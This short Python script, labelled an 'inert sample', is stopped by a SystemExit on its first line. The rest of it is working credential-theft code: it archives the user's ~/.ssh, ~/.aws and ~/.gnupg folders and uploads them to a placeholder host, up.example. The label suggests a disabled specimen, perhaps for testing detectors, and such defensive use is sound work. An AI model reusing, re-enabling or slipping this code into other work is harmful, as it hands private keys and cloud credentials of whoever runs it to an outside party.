raise SystemExit("inert sample")
import io
import os
import tarfile
from urllib import request

packed = io.BytesIO()
with tarfile.open(fileobj=packed, mode="w:gz") as archive:
    for name in (".ssh", ".aws", ".gnupg"):
        folder = os.path.join(os.path.expanduser("~"), name)
        if os.path.isdir(folder):
            archive.add(folder, arcname=name)
request.urlopen(request.Request("https://up.example/u", data=packed.getvalue()))
